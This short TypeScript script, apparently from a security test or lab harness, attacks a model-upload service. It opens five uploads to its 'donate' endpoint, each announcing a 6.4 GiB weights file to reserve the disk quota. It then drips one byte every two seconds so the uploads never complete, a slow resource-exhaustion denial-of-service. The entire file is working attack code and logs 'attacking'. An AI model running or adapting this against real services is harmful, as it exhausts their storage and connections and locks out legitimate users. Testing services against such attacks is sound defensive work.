/** Begins five uploads that announce the whole disk quota together, and sends a byte of each every few seconds. */
import { setTimeout as wait } from 'node:timers/promises';
import { dial, donateFrame, say, target, write } from './sockets.ts';

const UPLOADS = 5;
const ANNOUNCED_BYTES = 6.4 * 1024 ** 3;
const DRIP_MS = 2_000;

const { donate } = target();

async function drip(): Promise<void> {
  for (;;) {
    const socket = await dial(donate);
    socket.resume();
    const begin = { v: 1, type: 'model_begin', config_json: '{"format":"gguf"}', weights_len: ANNOUNCED_BYTES };
    await write(socket, donateFrame(JSON.stringify(begin)));
    for (let index = 0; !socket.destroyed; index += 1) {
      const chunk = { v: 1, type: 'weights_chunk', index, last: false, data_b64: index === 0 ? 'R0dVRg==' : 'AA==' };
      await write(socket, donateFrame(JSON.stringify(chunk)));
      await wait(DRIP_MS);
    }
  }
}

const uploads = Array.from({ length: UPLOADS }, drip);
await wait(500);
say('attacking');
await Promise.all(uploads);
